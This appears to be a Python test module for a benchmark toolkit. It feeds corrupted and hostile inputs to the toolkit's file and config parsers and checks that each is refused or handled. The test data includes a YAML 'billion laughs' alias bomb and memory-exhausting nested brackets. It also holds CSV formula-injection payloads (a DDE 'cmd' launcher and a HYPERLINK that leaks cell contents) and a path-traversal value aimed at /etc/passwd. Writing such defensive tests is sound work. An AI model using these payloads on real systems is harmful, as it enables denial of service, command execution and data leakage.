"""What a hostile or careless user hands in, by kind: each is refused in one clear line, or taken."""

import asyncio
import json
import subprocess
import sys
from collections.abc import Callable, Iterator
from functools import partial
from hashlib import md5
from pathlib import Path
from random import Random
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import yaml
from faults_samples import Case

from tomlab.benchmarks import bigtom, omnitom, simpletom
from tomlab.benchmarks.omnitom.items import records
from tomlab.benchmarks.omnitom.items.compose import table_text
from tomlab.errors import InputError
from tomlab.models import answers
from tomlab.models.ask import ask
from tomlab.models.specs import Reply, Request, model_spec
from tomlab.models.store import request_key, row
from tomlab.paths import DATA, PARAMS
from tomlab.pipeline import fetch
from tomlab.pipeline.answers import take
from tomlab.records import files

DEEP = 100_000  # brackets
# Some of what is handed in would take all memory and time if it got through.
CHILD = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (4 << 30,) * 2)
from tomlab.errors import InputError
from tomlab.pipeline import settings
try:
    settings.check(sys.argv[1])
except InputError as error:
    print(error)
    sys.exit(3)
"""


# Answers with headings of a model's own (attack 1)

HEADINGS = {
    "Actor": ["Name", "Subject"],
    "Order": ["Nesting", "ToM Order"],
    "Truth-Status": ["Truth Value", "Veracity", "Truth Status (T/F/U)"],
    "Knowledge-Access": ["Accessibility", "Knowledge Accessibility"],
    "Representation": ["Representation Type", "Form"],
    "Content Type": ["Category", "Content Category"],
    "Mental-Source": ["Mental State", "Origin"],
    "Context": ["Framing", "Contextual Frame"],
}


def renamed_headings(_: Path) -> Iterator[Case]:
    """A right table counts as right whatever its headings are called, as in the release."""
    told = records.read_records(DATA / "omnitom/stories.jsonl")[:1]
    items = omnitom.asked(omnitom.compose(told), "stage2-L3")
    right = table_text(records.rows(told[0]), 2)
    for heading, others in HEADINGS.items():
        for other in others:
            said = right.replace(heading, other, 1)
            yield Case(f"{heading} called {other}", _full_score(items, said), taken=True)
    marked = "\n".join(f"| {line} |" for line in right.splitlines())
    marked = marked.replace("Truth-Status", "**Veracity**").replace("Context", "_Frame_", 1)
    yield Case("in bold, between outer pipes", _full_score(items, marked), taken=True)


def _full_score(items: pd.DataFrame, said: str) -> Callable[[], None]:
    def score() -> None:
        found = omnitom.score(items, _responses(items, response=said))["score"]
        assert (found == 1).all(), f"score {found.iloc[0]:.2f}, expected 1"

    return score


def _responses(items: pd.DataFrame, **columns: Any) -> pd.DataFrame:
    methods = {"bigtom": "0-shot", "simpletom": "none", "omnitom": "stage2-L3"}
    method = columns.pop("of", "omnitom")
    told = {"item_id": items["item_id"], "model": "m", "method": methods[method]}
    return pd.DataFrame({**told, "sample": 0, "response": "a", **columns})


# Files of kept answers (attack 5)


def _answer(number: int) -> dict[str, Any]:
    request = {"model": "toy", "messages": [{"role": "user", "content": f"Question {number}?"}]}
    reply = Reply(f"Answer {number}.", "stop", 7, 3, {"engine": "toy 1.0"})
    told = row(request_key(request), "toy", request, reply, 0.001, 0.5)
    return told | {"uses": "3_evaluation/bigtom 0-shot"}


def kept_answers(folder: Path) -> Iterator[Case]:
    """A file of kept answers that somebody changed, looked up in and taken in."""
    good = [_answer(number) for number in range(3)]
    answers.write(good, folder / "good/bigtom/toy.parquet")
    table = pq.read_table(folder / "good/bigtom/toy.parquet")
    raw = (folder / "good/bigtom/toy.parquet").read_bytes()
    places = Random(0).sample(range(4, len(raw) - 8), 12)
    odd: dict[str, tuple[str, Any]] = {
        "empty": ("", b""),
        "cut": ("", raw[: len(raw) // 2]),
        "CSV": ("", table.to_pandas().to_csv().encode()),
        "a page overwritten": ("", raw[:60] + bytes(200) + raw[260:]),
        "another page overwritten": ("", raw[:300] + Random(1).randbytes(300) + raw[600:]),
        "a key that is not its request's": ("", _with(table, "key", "0" * 64)),
        "another request": ("", _with(table, "request", '{"model":"toy"}')),
        "a request that is no JSON": ("", _with(table, "request", "{")),
        "an origin that is no JSON": ("", _with(table, "origin", "{")),
        "an origin that is a list": ("", _with(table, "origin", "[1]")),
        "uses without a stage": ("", _with(table, "uses", "bigtom")),
        "a date that is not finite": ("", _with(table, "created", float("nan"))),
        "a date without end": ("", _with(table, "created", float("inf"))),
        "seconds that are not finite": ("", _with(table, "seconds", float("nan"))),
        "a negative cost": ("", _with(table, "cost", -1.0)),
        "a cost without end": ("", _with(table, "cost", float("inf"))),
        "negative tokens": ("", _with(table, "prompt_tokens", -1)),
        "an answer twice": (
            "",
            pa.concat_tables([table, _with(table, "text", "Another.").cast(table.schema)]),
        ),
    }
    for name in table.schema.names:
        odd[f"{name} missing"] = (name, table.drop_columns([name]))
        odd[f"{name} of lists"] = ("", _replaced(table, name, [["x"], ["y"], ["z"]]))
        if name != "cost":
            odd[f"{name} null"] = ("", _with(table, name, None))
        if pa.types.is_string(table.schema.field(name).type):
            odd[f"{name} of numbers"] = ("", _replaced(table, name, [1, 2, 3]))
        else:
            odd[f"{name} of texts"] = ("", _replaced(table, name, ["x", "y", "z"]))
    for number, (what, (column, content)) in enumerate(odd.items()):
        path = folder / str(number) / "bigtom/toy.parquet"
        named = ("toy.parquet", column)
        store = folder / f"{number}.sqlite"
        yield Case(f"taken: {what}", _kept(path, content, partial(_taken, store)), named)
    for number, place in enumerate(places):
        spoilt = raw[:place] + bytes([raw[place] ^ 0xFF]) + raw[place + 1 :]
        path, store = folder / f"bit-{number}/bigtom/toy.parquet", folder / f"bit-{number}.sqlite"
        read = _kept(path, spoilt, partial(_taken, store))
        yield Case(f"taken: byte {place} changed", read, ("toy.parquet",), harmless=True)
    keys = [one["key"] for one in good]
    for what in ("empty", "cut", "a page overwritten", *[w for w in odd if "missing" in w]):
        path = folder / "looked up" / what / "bigtom/toy.parquet"
        read = _kept(path, odd[what][1], partial(_looked_up, keys))
        yield Case(f"looked up: {what}", read, ("toy.parquet", odd[what][0]))


def _taken(store: Path, path: Path) -> None:
    take([path], store)


def _looked_up(keys: list[str], path: Path) -> None:
    answers.look_up([path.parents[1]], keys)


def _with(table: pa.Table, column: str, value: Any) -> pa.Table:
    """The table with another value in its second row."""
    values = table[column].to_pylist()
    return _replaced(table, column, [values[0], value, *values[2:]], table[column].type)


def _replaced(table: pa.Table, column: str, values: list, kind: pa.DataType | None = None) -> Any:
    return table.set_column(table.schema.get_field_index(column), column, pa.array(values, kind))


def _kept(path: Path, content: Any, read: Callable[[Path], Any]) -> Callable[[], Any]:
    def handed_in() -> Any:
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            pq.write_table(content, path)
        return read(path)

    return handed_in


# Options of params.yaml (attack 7)


def odd_parameters(folder: Path) -> Iterator[Case]:
    """What YAML can say and no option may hold, each in an entry of its own."""
    right = PARAMS.read_text(encoding="utf-8")
    entry = "  odd:\n    provider: openai\n    model: odd\n    base_url: http://localhost:1/v1\n"
    laughs = "".join(f"    l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 12))
    laughs = f"    l0: &l0 [x]\n{laughs}"
    numbers = [
        ("timeout", ".inf"),
        ("timeout", ".nan"),
        ("temperature", "-1"),
        ("temperature", ".inf"),
        ("temperature", ".nan"),
        ("requests_per_minute", ".inf"),
        ("requests_per_minute", ".nan"),
        ("tokens_per_minute", ".inf"),
        ("max_concurrency", "1.5"),
        ("price", "{input: .inf, output: 1}"),
        ("price", "{input: 1, output: .nan}"),
        ("price", "{input: 1, output: 1, batch: .inf}"),
        ("batch", "{poll: .inf}"),
    ]

    def models(text: str) -> str:
        return right.replace("\nmodels:\n", f"\nmodels:\n{text}", 1)

    def checked(number: int, text: str) -> Callable[[], None]:
        path = folder / str(number) / "params.yaml"

        def check() -> None:
            path.parent.mkdir(exist_ok=True)
            path.write_text(text, encoding="utf-8")
            _in_child(path)

        return check

    odd = [(f"{n} = {v}", models(f"{entry}    {n}: {v}\n"), (n,)) for n, v in numbers]
    digits = models(f"{entry}    max_retries: {'9' * 5000}\n")
    odd += [
        ("max_cost_usd = .inf", right.replace("max_cost_usd: 20", "max_cost_usd: .inf"), ("max_",)),
        ("max_cost_usd = .nan", right.replace("max_cost_usd: 20", "max_cost_usd: .nan"), ("max_",)),
        ("a number of 5,000 digits", digits, ("line",)),
        ("a name of 300 letters", models(entry.replace("odd:", f"{'x' * 300}:")), ()),
        ("a name with a line end", models(entry.replace("odd:", '"o\\nd":')), ()),
        ("a billion laughs in an entry", models(f"{entry}{laughs}"), ()),
        ("a billion laughs in extra_body", models(f"{entry}    extra_body:\n{laughs.replace('    ', '      ')}"), ("extra_body",)),
        ("a billion laughs beside the sections", right + "\n" + laughs.replace("    ", ""), ()),
        ("an entry within itself", models("  odd: &o\n    provider: openai\n    extra_body: *o\n"), ()),
        ("lists without end", models(f"{entry}    extra_body: {'[' * DEEP}\n"), ()),
        ("a merge of what is no mapping", models(f"{entry}    <<: 7\n"), ()),
        ("an unknown alias", models(f"{entry}    <<: *nobody\n"), ()),
    ]  # fmt: skip
    for number, (what, text, named) in enumerate(odd):
        assert text != right, what
        yield Case(what, checked(number, text), ("params.yaml", *named))
    merged = entry.replace("odd:", "odd: &odd") + "  even:\n    <<: *odd\n    model: even\n"
    yield Case("a merge of two entries", checked(len(odd), models(merged)), taken=True)


def _in_child(path: Path) -> None:
    """Check parameters in a process with bounds, and end as it ended."""
    command = [sys.executable, "-c", CHILD, str(path)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=30)
    if done.returncode == 3:
        raise InputError(done.stdout)
    if done.returncode:
        raise RuntimeError((done.stderr.strip() or f"code {done.returncode}").splitlines()[-1])


# Files of batches (attack 8)


def batch_files(folder: Path) -> Iterator[Case]:
    """What may come back for two questions, the second line broken in many ways."""
    body = {"choices": [{"index": 0, "message": {"content": "Yes."}, "finish_reason": "stop"}]}

    def line(key: Any, text: str = "Yes.") -> bytes:
        own = json.dumps(body).replace("Yes.", text)
        response = {"status_code": 200, "body": json.loads(own)}
        return json.dumps({"custom_id": key, "response": response, "error": None}).encode() + b"\n"

    def odd_lines(key: str) -> dict[str, bytes]:
        good = line(key)
        return {
            "an empty custom_id": line(""),
            "no custom_id": good.replace(b"custom_id", b"custom"),
            "a number as custom_id": line(7),
            "a list as custom_id": line([key]),
            "null as custom_id": line(None),
            "two answers to one": good + line(key, "No."),
            "deep lists": b"[" * DEEP + b"]" * DEEP + b"\n",
            "deep lists, open": b"[" * DEEP + b"\n",
            "a deep body": good.replace(b'"Yes."', b"[" * DEEP + b"]" * DEEP),
            "cut": good[: len(good) // 2],
            "no JSON": b"{\n",
            "a list": b"[1]\n",
            "a number": b"7\n",
            "null": b"null\n",
            "Latin-1": good.replace(b"Yes.", b"\xe4\xf6"),
            "NUL": good.replace(b"Yes.", b"\0"),
            "a half of a character": good.replace(b"Yes.", b"\\ud800"),
            "noise": Random(0).randbytes(500) + b"\n",
            "no body": good.replace(b'"body"', b'"no"'),
            "choices that are a number": json.dumps({**json.loads(good), "response": {"status_code": 200, "body": {"choices": 7}}}).encode() + b"\n",
            "status as text": good.replace(b"200", b'"x"'),
        }  # fmt: skip

    spec = {"provider": "openai", "model": "toy", "base_url": "http://127.0.0.1:1/v1"}
    model = model_spec("toy", {"toy": {**spec, "batch": {"to": "files"}}})
    questions = [Request(({"role": "user", "content": f"Question {n}?"},), 10) for n in (0, 1)]

    def asked(place: Path) -> Any:
        return asyncio.run(ask(questions, model, store=place / "store.sqlite", progress=False))

    def handed_in(what: str) -> Callable[[], Any]:
        def read() -> Any:
            place = folder / what
            try:
                asked(place)
            except InputError:
                [waiting] = place.rglob("*.in.jsonl")
            first, second = (json.loads(one)["custom_id"] for one in waiting.open())
            out = waiting.with_name(waiting.name.replace(".in.", ".out."))
            out.write_bytes(line(first) + odd_lines(second)[what])
            return asked(place)

        return read

    for what in odd_lines(""):
        # Under another id it is somebody else's answer; an odd text is still an answer.
        named = ("1 of 2 answers",) if "custom_id" in what else (".out.jsonl",)
        yield Case(what, handed_in(what), named, harmless=what in ("NUL", "status as text"))


# Tables handed to `score` (attack 9)


def odd_tables(_: Path) -> Iterator[Case]:
    """Responses from elsewhere of which a column holds what it should not."""
    told = records.read_records(DATA / "omnitom/stories.jsonl")[:2]
    given = {
        "bigtom": bigtom.read_released(DATA / "bigtom/bigtom.csv").head(4),
        "simpletom": simpletom.read_released(DATA / "simpletom/questions").head(12),
        "omnitom": omnitom.asked(omnitom.compose(told), "stage2-L3"),
    }  # fmt: skip
    faces = {"bigtom": bigtom, "simpletom": simpletom, "omnitom": omnitom}
    odd: dict[str, list] = {
        "response": [7, 1.5, True, ["a"], {"a": 1}, b"a"],
        "item_id": [7, None, ["x"], "nowhere"],
        "model": [None, 7, ["m"]],
        "method": [None, 7, ["x"], "nowhere"],
        "sample": [None, "x", -1, 1.5, [0]],
        "finish_reason": [7, ["stop"]],
        "completion_tokens": ["x", -1, [1]],
        "asked_as": [7, ["x"]],
    }
    empty = pd.DataFrame()
    for name, items in given.items():
        score, right = partial(faces[name].score, items), _responses(items, of=name)
        yield Case(f"{name}: as it should be", partial(score, right), taken=True)
        for column, values in odd.items():
            for value in values:
                spoilt = right.assign(**{column: pd.Series([value] * len(right), right.index)})
                read = partial(score, spoilt)
                # What an answer ended with and took is read only where no option stands in it.
                may = column in ("finish_reason", "completion_tokens")
                named = "responses" if column == "item_id" else column
                yield Case(f"{name}: {column} = {value!r}", read, (named,), harmless=may)
            if column in ("response", "item_id", "model", "method"):
                gone = right.drop(columns=column)
                yield Case(f"{name}: no {column}", partial(score, gone), ("responses", column))
        for what, responses in {"no responses": empty, "no row": right.head(0)}.items():
            yield Case(f"{name}: {what}", partial(_not_missing, score, responses), harmless=True)
        read = partial(_not_missing, partial(faces[name].score, empty), right)
        yield Case(f"{name}: no items", read)


def _not_missing(score: Callable, responses: pd.DataFrame) -> None:
    """Of an empty table it is said that it is empty, not which columns it lacks."""
    try:
        score(responses)
    except InputError as error:
        assert "missing" not in str(error), f"calls an empty table one with {error}"
        raise


# Forms that went through a spreadsheet (attack 11); what it spoilt: see `faults_files`


def spreadsheets(folder: Path) -> Iterator[Case]:
    """Texts that a spreadsheet takes for formulas come back as they were and begin harmlessly."""
    texts = [
        "=1+1",
        "+1",
        "-1",
        "− a",
        "@a",
        "'=1",
        "''@a",
        "#NAME?",
        "#1",
        "=a\nb",
        '="x"',
        "'tis",
    ]
    texts += ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1)', "-2+3+cmd", "@SUM(1)", "+", "="]

    def written(number: int, text: str) -> Callable[[], None]:
        def write() -> None:
            path = folder / f"{number}.csv"
            files.write_form(pd.DataFrame({"answer": [text], "n": [-1]}), path)
            cell = path.read_text(encoding="utf-8").split("\n", 1)[1].removeprefix('"')
            assert cell[0] not in "=+-−@#", f"written as {cell[:20]!r}"
            [found] = [cells[0] for number, cells in files.csv_rows(path) if number > 1]
            assert found == text, f"read as {found!r}"

        return write

    for number, text in enumerate(texts):
        yield Case(repr(text), written(number, text), taken=True)


# data.dvc (attack 12)


def pinned_data(folder: Path) -> Iterator[Case]:
    """A `data.dvc` and a list of files that somebody or git has spoilt."""
    listing = json.dumps([{"md5": md5(b"x").hexdigest(), "relpath": "x"}])

    def told(**out: Any) -> str:
        whole = {"md5": f"{md5(listing.encode()).hexdigest()}.dir", "path": "data", "hash": "md5"}
        return yaml.safe_dump({"outs": [{**whole, **out}]})

    right = told()
    odd: dict[str, str | bytes | None] = {
        "a conflict of git": f"outs:\n<<<<<<< HEAD\n{right[6:]}=======\n{right[6:]}>>>>>>> x\n",
        "a conflict around all": f"<<<<<<< HEAD\n{right}=======\n{right}>>>>>>> x\n",
        "missing": None,
        "empty": "",
        "noise": Random(0).randbytes(300),
        "no YAML": "outs: [",
        "deep lists": "[" * DEEP,
        "a text": "data",
        "a list": "[1]",
        "no outs": "deps: []",
        "empty outs": "outs: []",
        "outs that are a text": "outs: data",
        "an md5 that is a number": told(md5=7),
        "an md5 that is null": told(md5=None),
        "an empty md5": told(md5=""),
        "an md5 that leads elsewhere": told(md5="../../../etc/passwd"),
        "an md5 of another file": told(md5=f"{'0' * 32}.dir"),
    }
    lists = {
        "a list that is no JSON": "{",
        "a list that is an object": "{}",
        "a list of numbers": "[1]",
        "a list without paths": '[{"md5": "x"}]',
        "a list with a number as path": '[{"md5": "x", "relpath": 7}]',
        "a list that leads elsewhere": '[{"md5": "x", "relpath": "../../x"}]',
    }

    def fetched(what: str, content: str | bytes | None, listing: str = listing) -> Callable:
        root = folder / what
        hashed = md5(listing.encode()).hexdigest()

        def read() -> None:
            store = root / ".dvcstore/files/md5" / hashed[:2]
            store.mkdir(parents=True, exist_ok=True)
            (store / f"{hashed[2:]}.dir").write_text(listing)
            (root / ".dvc").mkdir(exist_ok=True)
            (root / ".dvc/config").write_text("[core]\n    no_scm = true\n    analytics = false\n")
            if content is not None:
                own = content if isinstance(content, bytes) else content.encode()
                (root / "data.dvc").write_bytes(own)
            fetch.fetch(root)

        return read

    for what, content in odd.items():
        yield Case(what, fetched(what, content), ("data.dvc",))
    for what, content in lists.items():
        pin = told(md5=f"{md5(content.encode()).hexdigest()}.dir")
        yield Case(what, fetched(what, pin, content))


KINDS: dict[str, Callable[[Path], Iterator[Case]]] = {
    "renamed headings": renamed_headings,
    "kept answers": kept_answers,
    "odd parameters": odd_parameters,
    "batch files": batch_files,
    "odd tables": odd_tables,
    "spreadsheets": spreadsheets,
    "data.dvc": pinned_data,
}
